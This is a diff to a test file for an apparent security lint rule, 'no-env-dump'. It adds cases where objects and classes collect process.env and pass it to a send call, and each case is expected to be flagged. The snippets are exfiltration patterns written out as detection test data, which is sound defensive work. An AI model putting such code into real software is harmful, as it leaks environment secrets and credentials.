@@ -50,6 +50,10 @@ describe('what is put into `this` and sent', () => {
     [`const report = { data: process.env, send() { ${SEND}(this.data) }); } };`],
     [`const report = { data: null, collect() { this.data = { ...process.env }; }, send() { ${SEND}(this.data) }); } };`],
     [`const report = { send(data) { ${SEND}(data) }); }, run() { this.send(process.env); } };`],
+    [`class Report { constructor() { this.send = this.send.bind(this); } send(data) { ${SEND}(data) }); } run() { setTimeout(this.send, 10, process.env); } }`],
+    [`class Report { to(url) { this.url = url; return this; } with(data) { this.data = data; return this; } send() { ${SEND}(this.data) }); } } new Report().to("x").with(process.env).send();`],
+    [`class Report { to(url) { this.url = url; return this; } send(data) { ${SEND}(data) }); } } const report = new Report(); report.to("x").send(process.env);`],
+    [`const report = { send: null }; report.send = (data) => ${SEND}(data) }); report.send(process.env);`],
     [`class Base { constructor(data) { this.data = data; } send() { ${SEND}(this.data) }); } } class Report extends Base { constructor() { super(process.env); } }`],
   ])('%s', async (code) => {
     expect(await idsOf(code)).toEqual(['agent-security/no-env-dump']);
